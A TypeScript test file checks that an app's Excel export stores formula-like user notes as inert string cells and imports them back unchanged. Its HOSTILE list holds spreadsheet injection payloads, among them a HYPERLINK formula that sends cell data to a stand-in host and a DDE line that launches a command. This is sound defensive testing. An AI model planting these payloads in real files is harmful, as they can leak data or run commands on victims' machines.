// Text the app writes can never evaluate: notes starting with = + - @ are plain string cells, and they come back
// exactly. The only formulas in an export are the app's own 增减 column.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import type { ReturnData } from '../../../shared/returns/schema.ts';
import { comparable, openTestApp, regionsOf, storeReturn, type TestApp } from './helpers/app.ts';
import { generateReturn } from './helpers/generate.ts';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', '=1+1'];

describe('formula injection', () => {
  let app: TestApp;
  let data: ReturnData;
  let bytes: Buffer;
  beforeAll(async () => {
    app = openTestApp();
    const { county } = regionsOf(app, 'jinkouhe');
    const base = generateReturn(app.framework('jinkouhe'), {
      level: 'county',
      regionCode: county,
      year: 2024,
      seed: 3,
      noDataShare: 0,
    });
    // 无数据 reasons and qualitative notes that look like formulas
    let n = 0;
    const cells = base.cells.map((c) =>
      c.sex === 'total' && n < HOSTILE.length && c.item.startsWith('H')
        ? { ...c, value: null, noData: { reason: HOSTILE[n++] } }
        : c,
    );
    const qualitative = base.qualitative.map((q, i) => ({ ...q, note: HOSTILE[i % HOSTILE.length] }));
    data = { ...base, cells, qualitative };
    const id = await storeReturn(app, data, 'county', '=cmd|calc');
    const file = await app.call('excel:export-return', { returnId: id });
    bytes = Buffer.from(file.bytesBase64, 'base64');
  });
  afterAll(() => app.close());

  it('writes every text as a string cell; formulas only in the 增减 column', () => {
    const book = XLSX.read(bytes, { type: 'buffer', cellFormula: true });
    let hostileCells = 0;
    for (const name of book.SheetNames) {
      const ws = book.Sheets[name];
      for (const [addr, cell] of Object.entries(ws)) {
        if (addr.startsWith('!')) continue;
        const c = cell as XLSX.CellObject;
        if (c.f !== undefined) {
          expect(addr, `${name}!${addr}`).toMatch(/^H\d+$/);
          expect(c.f).toMatch(/^IF\(AND\(ISNUMBER\(D\d+\),ISNUMBER\(G\d+\)/);
        }
        if (typeof c.v === 'string' && /^[=+\-@]/.test(c.v)) {
          hostileCells += 1;
          expect(c.t, `${name}!${addr}`).toBe('s');
          expect(c.f, `${name}!${addr}`).toBeUndefined();
        }
      }
    }
    expect(hostileCells).toBeGreaterThanOrEqual(HOSTILE.length + 1);
  });

  it('reads the same texts back exactly', async () => {
    const target = openTestApp();
    try {
      await target.call('settings:set-profile', {
        planId: 'jinkouhe',
        role: 'county',
        regionCode: data.regionCode,
        userName: '',
      });
      const result = await target.call('excel:import', {
        fileName: 'x.xlsx',
        bytesBase64: bytes.toString('base64'),
        acceptWarnings: false,
      });
      expect(result.written).toBe(true);
      const back = await target.call('returns:get', { returnId: result.returnId! });
      expect(comparable(back.data)).toEqual(comparable(data));
      expect(back.data.qualitative.map((q) => q.note)).toEqual(expect.arrayContaining(HOSTILE));
    } finally {
      target.close();
    }
  });
});
